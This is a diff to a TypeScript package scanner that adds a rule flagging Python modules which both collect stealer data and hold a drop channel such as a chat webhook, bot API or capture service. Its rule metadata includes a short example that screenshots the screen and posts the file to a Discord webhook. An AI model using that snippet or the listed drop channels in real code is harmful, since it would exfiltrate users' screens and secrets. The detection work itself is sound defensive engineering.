@@ -53,6 +53,24 @@ export const PTH_EXEC: RuleMeta = {
   references: ['https://docs.python.org/3/library/site.html'],
 };
 
+export const COLLECT_AND_SEND: RuleMeta = {
+  ...py,
+  id: 'PY-024',
+  name: 'collect-and-send-module',
+  category: 'exfiltration',
+  severity: 'critical',
+  confidence: 'high',
+  description:
+    'One module both collects what stealers collect (credential stores, screenshots, keystrokes, webcam, clipboard) and holds a drop channel (chat webhook, Telegram bot API, request-capture/OAST/paste service) — or calls the network with a request-capture/OAST address — even when that code only runs when a function is called.',
+  rationale:
+    'Stealers and RATs published as "tools" keep their code in functions the victim calls (or a console script runs), so the load-time view misses them; a module whose own functions grab secrets or the screen and hold a webhook to send them to is a stealer whenever it runs. Interaction-capture (OAST) and request-capture hosts have no use in shipped code other than receiving callbacks.',
+  falsePositives:
+    "Security training material and red-team tooling published on purpose; a screenshot tool that reports to its author's chat webhook.",
+  example:
+    "def loop():\n    pyautogui.screenshot().save('s.png')\n    requests.post('https://discord.com/api/webhooks/1/x', files={'f': open('s.png', 'rb')})",
+  references: ['https://attack.mitre.org/techniques/T1041/', 'https://attack.mitre.org/techniques/T1113/'],
+};
+
 /** Whether a file is Python source to parse. */
 export function isPythonFile(file: ArtifactFile): boolean {
   if (file.kind !== 'text') return false;
@@ -188,6 +206,52 @@ function closeCalls(analysis: PyFileAnalysis, external: Set<string>): Set<string
   return closure;
 }
 
+/** Endpoint kinds that are drop channels for stolen data (NET-001 evidence.endpointKind). */
+const DROP_CHANNELS = new Set([
+  'discord-webhook',
+  'messaging-bot',
+  'slack-webhook',
+  'request-capture',
+  'oast',
+  'paste',
+  'file-drop',
+]);
+/** Capture services: contacting one is itself the beacon. */
+const CAPTURE_ONLY = new Set(['request-capture', 'oast']);
+
+/**
+ * PY-024: a module whose functions collect stealer data and hold a drop channel, judged over the
+ * whole file (also code that only runs on request, whose capability findings are otherwise dropped).
+ */
+function collectAndSend(path: string, findings: PyFinding[], context: ExecutionContext): Finding | undefined {
+  if (TEST_PATH.test(path)) return undefined;
+  const channel = findings.find(
+    (f) => f.finding.ruleId === 'NET-001' && DROP_CHANNELS.has(String(f.finding.evidence?.endpointKind)),
+  );
+  if (!channel) return undefined;
+  const collect = findings.find(
+    (f) => f.finding.ruleId === 'PY-009' || f.finding.ruleId === 'PY-012' || f.finding.ruleId === 'PY-008',
+  );
+  const kind = String(channel.finding.evidence?.endpointKind);
+  const network = findings.find(
+    (f) =>
+      f.finding.ruleId === 'PY-006' || (f.finding.ruleId === 'PY-004' && f.finding.category === 'network'),
+  );
+  if (!collect && !(CAPTURE_ONLY.has(kind) && network)) return undefined;
+  const at = collect ?? network!;
+  return makeFinding(COLLECT_AND_SEND, {
+    file: path,
+    line: at.finding.line,
+    snippet: at.finding.snippet,
+    context,
+    severity: collect ? 'critical' : 'high',
+    message: collect
+      ? `${path} collects data a stealer takes (${at.finding.message.slice(0, 100)}) and holds a drop channel (${String(channel.finding.iocs?.[0] ?? kind).slice(0, 80)}).`
+      : `${path} contacts a ${kind} service (${String(channel.finding.iocs?.[0] ?? '').slice(0, 80)}): a callback beacon.`,
+    evidence: { channel: kind, collect: collect?.finding.ruleId, network: network?.finding.ruleId },
+  });
+}
+
 function finalContext(path: string, fileCtx: ExecutionContext, f: PyFinding): ExecutionContext {
   if (path === 'setup.py') return 'install';
   if (fileCtx === 'runtime' || fileCtx === 'unknown') return 'runtime';
@@ -217,6 +281,7 @@ export const pythonAnalyzer: Analyzer = {
     for (const [path, analysis] of analyses) {
       const fileCtx = contexts.get(path) ?? pkg.contextOf(path);
       const closure = closeCalls(analysis, external);
+      let runtimeOnly = true;
       for (const f of analysis.findings) {
         if (!f.loadTime && f.stack && f.stack.length > 0 && f.stack.every((n) => closure.has(n)))
           f.loadTime = true;
@@ -226,7 +291,13 @@ export const pythonAnalyzer: Analyzer = {
         if (context === 'runtime' && TEST_PATH.test(path) && f.finding.severity !== 'info')
           f.finding.severity = 'low';
         f.finding.context = context;
+        if (context !== 'runtime') runtimeOnly = false;
         findings.push(f.finding);
+      }
+      // Runtime-only stealers/beacons: judged over the whole module (load-time code has its chains).
+      if (runtimeOnly) {
+        const f = collectAndSend(path, analysis.findings, 'runtime');
+        if (f) findings.push(f);
       }
     }
     // .pth files: their import lines run at every interpreter start.
@@ -265,6 +336,7 @@ export const pythonAnalyzer: Analyzer = {
 export const PYTHON_RULE_METAS: RuleMeta[] = [
   UNPARSEABLE_PYTHON,
   PTH_EXEC,
+  COLLECT_AND_SEND,
   ...PY_RULES.map((r) => r.meta).filter((m) => m.id.startsWith('PY-')),
   ...METADATA_RULES,
   ENCRYPTED_ENTRY,
